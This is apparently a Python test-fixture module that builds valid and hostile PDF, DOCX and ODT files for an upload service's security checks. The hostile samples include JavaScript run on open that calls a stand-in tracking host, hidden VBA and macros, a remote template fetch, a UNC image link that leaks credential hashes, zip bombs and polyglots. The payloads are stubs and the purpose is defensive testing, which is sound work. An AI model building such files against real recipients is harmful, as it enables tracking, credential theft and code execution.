"""Real documents built by hand, good and hostile, for upload tests.

Each generator returns bytes in the real on-disk structure (a PDF with a
valid cross-reference table; DOCX and ODT as the ZIP packages Word and
LibreOffice write), so tests exercise the service's real content checks.
"""

from __future__ import annotations

import functools
import io
import os
import random
import re
import struct
import zipfile
import zlib
from pathlib import Path

CVS = Path(__file__).resolve().parents[1] / "tests" / "fixtures" / "cvs"
DOCX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_CONTENT_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
ODT_MIMETYPE = "application/vnd.oasis.opendocument.text"


def _pdf_objects(text: str, catalog_extra: bytes, page_extra: bytes) -> list[bytes]:
    """Catalog, page tree, one page showing `text` (ASCII), its content and font: objects 1 to 5."""
    stream = f"BT /F1 24 Tf 72 720 Td ({text}) Tj ET".encode("ascii")
    return [
        b"<< /Type /Catalog /Pages 2 0 R%s >>" % catalog_extra,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >>%s >>" % page_extra,
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def _write_objects(out: bytearray, objects: list[bytes], first: int = 1) -> list[int]:
    """Append numbered objects to `out`; their offsets, for the cross-reference."""
    offsets = []
    for number, body in enumerate(objects, start=first):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return offsets


def pdf_bytes(
    text: str = "Curriculum vitae",
    *,
    catalog_extra: bytes = b"",
    page_extra: bytes = b"",
    extra_objects: tuple[bytes, ...] = (),
    info: bytes | None = None,
) -> bytes:
    """A minimal, valid one-page PDF 1.4 showing `text` (ASCII), with exact xref offsets.

    `catalog_extra` and `page_extra` add entries to the catalog and the page;
    `extra_objects` are numbered from 6 (from 7 with an `info` dictionary, which is object 6).
    """
    objects = [*_pdf_objects(text, catalog_extra, page_extra), *((info,) if info else ()), *extra_objects]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = _write_objects(out, objects)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    trailer_info = b" /Info 6 0 R" if info else b""
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer_info, xref)
    return bytes(out)


def pdf_with_object_stream(
    packed: tuple[bytes, ...], catalog_extra: bytes = b"", offsets: tuple[int, ...] | None = None
) -> bytes:
    """A PDF 1.5 as Word and LibreOffice write them: objects from 6 on packed in a Flate object
    stream, found through a cross-reference stream; `offsets` replace where the stream says each starts."""
    if offsets is None:
        offsets = tuple(sum(len(body) + 1 for body in packed[:index]) for index in range(len(packed)))
    header = b" ".join(b"%d %d" % (6 + index, offset) for index, offset in enumerate(offsets)) + b" "
    content = header + b"".join(body + b" " for body in packed)
    compressed = zlib.compress(content)
    objects = _pdf_objects("Curriculum vitae", catalog_extra, b"")
    stream_number = 6 + len(packed)
    object_stream = b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(packed),
        len(header),
        len(compressed),
        compressed,
    )
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = _write_objects(out, objects)
    offsets += _write_objects(out, [object_stream], first=stream_number)
    xref_number, xref = stream_number + 1, len(out)
    rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
    rows += [struct.pack(">BIH", 1, offset, 0) for offset in offsets[:5]]
    rows += [struct.pack(">BIH", 2, stream_number, index) for index in range(len(packed))]
    rows += [struct.pack(">BIH", 1, offsets[5], 0), struct.pack(">BIH", 1, xref, 0)]
    table = b"".join(rows)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (xref_number, xref_number + 1, len(table), table)
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


JAVASCRIPT_ACTION = b'<< /Type /Action /S /JavaScript /JS (app.launchURL\\("https://track.example.net/"\\);) >>'


def pdf_javascript_on_open() -> bytes:
    """A PDF running JavaScript as soon as it is opened (/OpenAction to a JavaScript action)."""
    return pdf_bytes(catalog_extra=b" /OpenAction 6 0 R", extra_objects=(JAVASCRIPT_ACTION,))


def pdf_with_links() -> bytes:
    """A PDF opening at its first page, with a web link, and "/JavaScript" in its title and keywords."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /URI /URI (https://example.org/) >> >>"
    info = b"<< /Title (CV - C/C++/JavaScript developer) /Keywords (Python /JavaScript /Go) >>"
    return pdf_bytes(
        catalog_extra=b" /OpenAction [3 0 R /Fit]", page_extra=b" /Annots [7 0 R]", info=info, extra_objects=(link,)
    )


def pdf_with_embedded_file() -> bytes:
    """A PDF carrying a file (here a small executable) in its embedded files."""
    payload = b"MZ\x90\x00"
    return pdf_bytes(
        catalog_extra=b" /Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >>",
        extra_objects=(
            b"<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(payload), payload),
        ),
    )


def pdf_javascript_in_object_stream() -> bytes:
    """Document-level JavaScript (run on opening) packed in a compressed object stream, as a
    modern PDF would hide it: no name of it is readable in the file's bytes."""
    return pdf_with_object_stream(
        (b"<< /JavaScript << /Names [(init) 7 0 R] >> >>", JAVASCRIPT_ACTION), catalog_extra=b" /Names 6 0 R"
    )


def real_cv(name: str) -> bytes:
    """A CV exported by LibreOffice (tests/fixtures/cvs, made by harness/word_processor.py)."""
    return (CVS / name).read_bytes()


def grown_pdf(pdf: bytes, size: int) -> bytes:
    """`pdf` grown to about `size` bytes by an incremental update adding a photo's worth of JPEG-like
    data, as a word processor's export with photos is: a real export's objects, plus megabytes of stream."""
    number = int(re.findall(rb"/Size\s+(\d+)", pdf)[-1])
    root = re.findall(rb"/Root\s+(\d+\s+\d+\s+R)", pdf)[-1]
    previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    photo = random.Random(5).randbytes(max(size - len(pdf) - 400, 0))
    out = bytearray(pdf)
    offset = len(out)
    out += b"%d 0 obj\n<< /Type /XObject /Subtype /Image /Width 1200 /Height 1200 /BitsPerComponent 8" % number
    out += b" /ColorSpace /DeviceRGB /Filter /DCTDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(photo),
        photo,
    )
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (number, offset)
    out += b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (number + 1, root, previous, xref)
    return bytes(out)


def padded_pdf(size: int) -> bytes:
    """A valid PDF grown to exactly `size` bytes with a trailing comment (for size limits)."""
    pdf = pdf_bytes()
    return pdf + b"%" + b"x" * (size - len(pdf) - 2) + b"\n"


def pdf_with_many_links(size: int = 4_500_000) -> bytes:
    """A large legitimate-looking PDF of about `size` bytes (under the 5 MB cap): one page and 45,000 web
    links, each an object the check reads until its budget refuses the file (about 0.6 s of CPU)."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /URI /URI (https://example.org/) >> >>"
    return pdf_bytes(extra_objects=(link,) * (size // (len(link) + 30)))


def _zip(entries: list[tuple[str, bytes]], *, stored_first: bool = False, level: int | None = None) -> bytes:
    """ZIP package from (name, bytes) pairs, deflated (at `level`) except an optional stored first entry."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries):
            method = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data, method, level)
    return buffer.getvalue()


def _content_types(main_type: str, extra: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main_type}"/>{extra}</Types>'
    ).encode()


_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)


_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_EXTERNAL = ' TargetMode="External"'


def _document_xml(text: str, body: str = "") -> bytes:
    """The main part: a paragraph of `text`, then `body` (which may use the r: prefix for relationships)."""
    relationships_prefix = f' xmlns:r="{_REL[:-1]}"' if body else ""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"{relationships_prefix}>'
        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>{body}</w:body></w:document>"
    ).encode()


def docx_entries(
    text: str = "Curriculum vitae", main_type: str = DOCX_CONTENT_TYPE, content_types: str = "", body: str = ""
) -> list[tuple[str, bytes]]:
    """The parts of a minimal Word document, for variants that add or change parts."""
    return [
        ("[Content_Types].xml", _content_types(main_type, content_types)),
        ("_rels/.rels", _RELS),
        ("word/document.xml", _document_xml(text, body)),
    ]


def docx_bytes(text: str = "Curriculum vitae") -> bytes:
    """A minimal valid DOCX (Office Open XML word-processing package)."""
    return _zip(docx_entries(text))


def padded_docx(size: int) -> bytes:
    """A valid DOCX of about `size` bytes (a little more): a photo's worth of incompressible media inside."""
    return docx_with(("word/media/image1.png", os.urandom(size)))


def docm_bytes() -> bytes:
    """A macro-enabled Word document: macro content type and a vbaProject.bin part."""
    entries = docx_entries(main_type=DOCM_CONTENT_TYPE)
    entries.append(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512))
    return _zip(entries)


def docx_with_hidden_vba() -> bytes:
    """A DOCX that claims the plain content type but still carries a VBA project."""
    return _zip([*docx_entries(), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 64)])


def relationships(*items: tuple[str, str, bool]) -> bytes:
    """A relationships part from (type name, target, external) triples."""
    rows = "".join(
        f'<Relationship Id="rId{number}" Type="{_REL}{kind}" Target="{target}"{_EXTERNAL if external else ""}/>'
        for number, (kind, target, external) in enumerate(items, start=1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}'
        "</Relationships>"
    ).encode()


def docx_with(*parts: tuple[str, bytes], content_types: str = "", body: str = "") -> bytes:
    """A minimal Word document with more parts (relationships, settings, embeddings) and content."""
    return _zip([*docx_entries(content_types=content_types, body=body), *parts])


_SETTINGS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    b' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<w:attachedTemplate r:id="rId1"/></w:settings>'
)


def docx_remote_template(target: str = "https://templates.example.net/cv.dotm") -> bytes:
    """A DOCX whose settings attach a template fetched when Word opens it (macros after the fact)."""
    return docx_with(
        ("word/_rels/document.xml.rels", relationships(("settings", "settings.xml", False))),
        ("word/settings.xml", _SETTINGS),
        ("word/_rels/settings.xml.rels", relationships(("attachedTemplate", target, True))),
    )


def docx_template_disguised_as_hyperlink() -> bytes:
    """A remote template whose relationship claims to be a hyperlink (in case Word does not check the type)."""
    return docx_with(
        ("word/_rels/document.xml.rels", relationships(("settings", "settings.xml", False))),
        ("word/settings.xml", _SETTINGS),
        ("word/_rels/settings.xml.rels", relationships(("hyperlink", "https://templates.example.net/cv.dotm", True))),
    )


def docx_linked_image(target: str = "file:///\\\\files.example.net\\share\\photo.png") -> bytes:
    """A DOCX showing an image linked, not embedded: Word fetches it on opening (a UNC path leaks
    the reader's Windows credentials hash)."""
    return docx_with(("word/_rels/document.xml.rels", relationships(("image", target, True))))


def docx_with_image(*hyperlinks: str) -> bytes:
    """A DOCX with an embedded image, used from a:blip, and a hyperlink to each of `hyperlinks`."""
    links = "".join(
        f'<w:hyperlink r:id="rId{number}"><w:r><w:t>{target}</w:t></w:r></w:hyperlink>'
        for number, target in enumerate(hyperlinks, start=2)
    )
    body = (
        f"<w:p>{links}</w:p>"
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
        ' r:embed="rId1"/></w:drawing></w:r></w:p>'
    )
    return docx_with(
        (
            "word/_rels/document.xml.rels",
            relationships(
                ("image", "media/image1.png", False), *(("hyperlink", target, True) for target in hyperlinks)
            ),
        ),
        ("word/media/image1.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 64),
        content_types='<Default Extension="png" ContentType="image/png"/>',
        body=body,
    )


def docx_with_hyperlinks() -> bytes:
    """A DOCX with web and mail hyperlinks, as Word makes of every typed address, and an embedded image."""
    return docx_with_image("mailto:amina@example.org", "https://www.linkedin.com/in/amina")


def docx_with_link(
    target: str, use: str = '<w:hyperlink r:id="rId1"><w:r><w:t>link</w:t></w:r></w:hyperlink>'
) -> bytes:
    """A DOCX with one hyperlink relationship, rId1, to `target`, named in the main part by `use` (by default
    a w:hyperlink, as Word writes one; an element loading rId1 instead is a fetch in disguise)."""
    rels = relationships(("hyperlink", target, True))
    return docx_with(("word/_rels/document.xml.rels", rels), body=f"<w:p>{use}</w:p>")


def docx_with_ole_object() -> bytes:
    """A DOCX embedding an OLE object (a program's document that runs its program)."""
    return docx_with(
        ("word/_rels/document.xml.rels", relationships(("oleObject", "embeddings/oleObject1.bin", False))),
        ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512),
        content_types='<Default Extension="bin" '
        'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
    )


def docx_with_activex() -> bytes:
    """A DOCX carrying an ActiveX control."""
    return docx_with(
        ("word/_rels/document.xml.rels", relationships(("control", "activeX/activeX1.xml", False))),
        ("word/activeX/activeX1.xml", b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'),
    )


_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
# Parts Word reads text from besides the document: relationship type, content type (after
# "wordprocessingml.") and the elements around a paragraph.
_STORIES = {
    "header": ("header", "header", "<w:hdr {}>{}</w:hdr>"),
    "footer": ("footer", "footer", "<w:ftr {}>{}</w:ftr>"),
    "footnotes": ("footnotes", "footnotes", '<w:footnotes {}><w:footnote w:id="1">{}</w:footnote></w:footnotes>'),
    "endnotes": ("endnotes", "endnotes", '<w:endnotes {}><w:endnote w:id="1">{}</w:endnote></w:endnotes>'),
    "comments": ("comments", "comments", '<w:comments {}><w:comment w:id="0" w:author="A">{}</w:comment></w:comments>'),
    "glossary": (
        "glossaryDocument",
        "document.glossary",
        "<w:glossaryDocument {}><w:docParts><w:docPart><w:docPartBody>{}</w:docPartBody></w:docPart></w:docParts>"
        "</w:glossaryDocument>",
    ),
}


def field(*pieces: str, result: str = "result") -> str:
    """A complex field as Word writes it, in runs: begin, its code (one w:instrText per piece, or a piece
    starting with "<" as it is: a field nested in the code), separate, the result shown, end."""
    code = "".join(
        piece if piece.startswith("<") else f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
        for piece in pieces
    )
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{code}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def docx_with_paragraph(content: str, story: str = "document", name: str = "") -> bytes:
    """A DOCX with a paragraph of `content` (runs, fields) in its document, or in a `story` of _STORIES
    (a header, the footnotes...) named `name` (by default word/<story>.xml), declared as Word declares it."""
    if story == "document":
        return docx_with(body=f"<w:p>{content}</w:p>")
    relationship, content_type, root = _STORIES[story]
    name = name or f"word/{story}.xml"
    part = root.format(f'xmlns:w="{_W}"', f"<w:p>{content}</w:p>")
    return docx_with(
        ("word/_rels/document.xml.rels", relationships((relationship, name.removeprefix("word/"), False))),
        (name, f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{part}'.encode()),
        content_types=f'<Override PartName="/{name}" ContentType="application/vnd.openxmlformats-officedocument.'
        f'wordprocessingml.{content_type}+xml"/>',
    )


_ODF_NAMESPACES = (
    " ".join(
        f'xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:{name}"'
        for prefix, name in (
            ("office", "office:1.0"),
            ("text", "text:1.0"),
            ("draw", "drawing:1.0"),
            ("script", "script:1.0"),
        )
    )
    + ' xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def odt_entries(
    text: str = "Curriculum vitae", manifest_extra: str = "", body: str = "", scripts: str = ""
) -> list[tuple[str, bytes]]:
    """The parts of a minimal ODF text document, `mimetype` first as the spec requires.

    `body` is XML added after the paragraph; `scripts` is the content of office:scripts.
    """
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
        ' manifest:version="1.2">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{ODT_MIMETYPE}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        f"{manifest_extra}</manifest:manifest>"
    ).encode()
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<office:document-content {_ODF_NAMESPACES} office:version="1.2">'
        f"<office:scripts>{scripts}</office:scripts>"
        f"<office:body><office:text><text:p>{text}</text:p>{body}</office:text></office:body>"
        "</office:document-content>"
    ).encode()
    return [
        ("mimetype", ODT_MIMETYPE.encode()),
        ("META-INF/manifest.xml", manifest),
        ("content.xml", content),
    ]


def odt_with(body: str = "", scripts: str = "", parts: tuple[tuple[str, bytes], ...] = ()) -> bytes:
    """A minimal ODT with more content and parts."""
    return _zip([*odt_entries(body=body, scripts=scripts), *parts], stored_first=True)


def odt_image(href: str) -> str:
    """An image frame as LibreOffice writes it, its picture at `href`."""
    return (
        f'<text:p><draw:frame draw:name="Photo"><draw:image xlink:href="{href}" xlink:type="simple"'
        ' xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>'
    )


def odt_web_image(href: str = "https://pixel.example.net/open.png") -> bytes:
    """An ODT whose image is loaded from the web when it is opened (tells the sender it was read)."""
    return odt_with(odt_image(href))


def odt_onload_macro() -> bytes:
    """An ODT running a macro when opened: an event listener, no Basic library in the package."""
    listener = (
        '<office:event-listeners><script:event-listener script:language="ooo:script"'
        ' script:event-name="dom:load" xlink:href="vnd.sun.star.script:Tools.Misc.Run?'
        'language=Basic&amp;location=application"/></office:event-listeners>'
    )
    return odt_with(scripts=listener)


def odt_with_picture(*links: str) -> bytes:
    """An ODT with an embedded picture, a link to its own heading and a text:a to each of `links`.
    Like LibreOffice's, it holds an empty Configurations2/accelerator/current.xml (no XML at all)."""
    anchors = "".join(f' <text:a xlink:type="simple" xlink:href="{href}">{href}</text:a>' for href in links)
    body = f'<text:p><text:a xlink:href="#Experience">experience</text:a>{anchors}</text:p>'
    return odt_with(
        odt_image("Pictures/photo.png") + body,
        parts=(
            ("Pictures/photo.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 64),
            ("Configurations2/accelerator/current.xml", b""),
        ),
    )


def odt_with_links_and_picture() -> bytes:
    """An ODT with web and mail hyperlinks beside its picture and heading link."""
    return odt_with_picture("https://www.linkedin.com/in/amina", "mailto:amina@example.org")


def odt_bytes(text: str = "Curriculum vitae") -> bytes:
    """A minimal valid ODT (OpenDocument text)."""
    return _zip(odt_entries(text), stored_first=True)


def odt_with_macros() -> bytes:
    """An ODT carrying a LibreOffice Basic module (macro)."""
    extra = '<manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/>'
    entries = [*odt_entries(manifest_extra=extra), ("Basic/Standard/Module1.xml", b"<script:module/>")]
    return _zip(entries, stored_first=True)


def encrypted_odt() -> bytes:
    """A password-protected ODT: LibreOffice encrypts content.xml itself and says so in the manifest."""
    extra = (
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
        '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA">'
        '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="AAAA"/>'
        "</manifest:encryption-data></manifest:file-entry>"
    )
    entries = odt_entries(manifest_extra=extra)
    entries[2] = ("content.xml", bytes(range(256)) * 4)
    return _zip(entries, stored_first=True)


def encrypted_docx() -> bytes:
    """A DOCX whose entries carry the 'encrypted' flag (bit 0 of the general purpose flags)."""
    data = bytearray(docx_bytes())
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start != -1:
            (flags,) = struct.unpack_from("<H", data, start + flag_offset)
            struct.pack_into("<H", data, start + flag_offset, flags | 0x1)
            start = data.find(signature, start + 4)
    return bytes(data)


def zip_bomb_docx(megabytes: int = 64) -> bytes:
    """A valid DOCX with one highly compressible part that inflates to `megabytes` MB."""
    return _zip([*docx_entries(), ("word/media/padding.bin", b"\0" * (megabytes * 1024 * 1024))])


def many_entries_docx(count: int = 5000) -> bytes:
    """A DOCX padded with thousands of tiny parts (entry-count abuse)."""
    return _zip([*docx_entries(), *((f"word/x/{i}.xml", b"<x/>") for i in range(count))])


def pdf_first_docx() -> bytes:
    """A DOCX whose first entry is a stored PDF, so its header sits where PDF readers look (a polyglot)."""
    return _zip([("cv.pdf", pdf_bytes()), *docx_entries()], stored_first=True)


def plain_zip() -> bytes:
    """A ZIP that is neither DOCX nor ODT."""
    return _zip([("notes.txt", b"hello")])


def exe_bytes() -> bytes:
    """The start of a Windows PE executable (MZ header), to be renamed as a resumé."""
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\0" * 48 + b"PE\0\0" + b"\0" * 256


SAMPLES = {
    "pdf": (pdf_bytes, "application/pdf", "pdf"),
    "docx": (docx_bytes, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "docx"),
    "odt": (odt_bytes, ODT_MIMETYPE, "odt"),
}
"""Accepted kinds: generator, MIME type the service must detect, file extension."""


# -- Files built to cost the checks as much as possible (issue 22): each must be judged within the budget. --


def pdf_chained_goto(size: int = 92 * 1024, nested: bool = True) -> bytes:
    """A PDF opening with /OpenAction 5 0 R, then definitions of object 5 to `size` bytes, each a plain GoTo
    and each (when `nested`) inside the dictionary of the one before, so that none ends before the file does."""
    head = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>\nendobj\n"
    head += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    tail = b"trailer\n<< /Size 6 /Root 1 0 R >>\n%%EOF\n"
    definition = (
        b"5 0 obj\n<< /S /GoTo /D [2 0 R /Fit] /X\n" if nested else b"5 0 obj\n<< /S /GoTo /D [2 0 R /Fit] >>\nendobj\n"
    )
    count = (size - len(head) - len(tail)) // (len(definition) + (3 if nested else 0))
    closing = b">> " * count + b"\nendobj\n" if nested else b""
    return head + definition * count + closing + tail


def pdf_of_small_objects(size: int) -> bytes:
    """A PDF grown to about `size` bytes with empty objects, each a definition to record."""
    pdf = pdf_bytes()
    objects = b"".join(b"%d 0 obj\n<< >>\nendobj\n" % number for number in range(10, 10 + size // 20))
    return pdf + objects[: objects.rindex(b"endobj\n", 0, size - len(pdf)) + 7]


def pdf_nested_arrays(depth: int = 2_000_000) -> bytes:
    """A PDF whose /OpenAction is an array nested `depth` times."""
    return pdf_bytes(catalog_extra=b" /OpenAction " + b"[" * depth + b"3 0 R /Fit" + b"]" * depth)


def _many_elements(count: int) -> bytes:
    """`count` empty elements, 4 bytes each (<a/> or <b/> at random, so that they compress only about 20 times)."""
    letters = random.Random(22).randbytes(count).translate(bytes(b"ab"[byte & 1] for byte in range(256)))
    out = bytearray(b"<a/>" * count)
    out[1::4] = letters
    return bytes(out)


@functools.cache
def office_xml_flood(kind: str, count: int = 12_000_000, link: bool = True) -> bytes:
    """A DOCX or ODT (`kind`) whose main XML part holds `count` empty elements, beside a web link unless
    not `link`: 48 MB inflated for 12 million (3.7 MB deflated), within the inflation caps."""
    flood = _many_elements(count)
    if kind == "docx":
        web = '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>web</w:t></w:r></w:hyperlink></w:p>' if link else ""
        document = _document_xml("CV", web).replace(b"</w:body>", b"<w:p>" + flood + b"</w:p></w:body>")
        entries = docx_entries()
        entries[2] = ("word/document.xml", document)
        rels = relationships(("hyperlink", "https://example.org/", True))
        return _zip([*entries, *([("word/_rels/document.xml.rels", rels)] if link else [])], level=3)
    entries = odt_entries(body='<text:p><text:a xlink:href="https://example.org/">web</text:a></text:p>')
    content = entries[2][1].replace(b"</office:text>", b"<text:p>" + flood + b"</text:p></office:text>")
    return _zip([*entries[:2], ("content.xml", content)], stored_first=True, level=3)
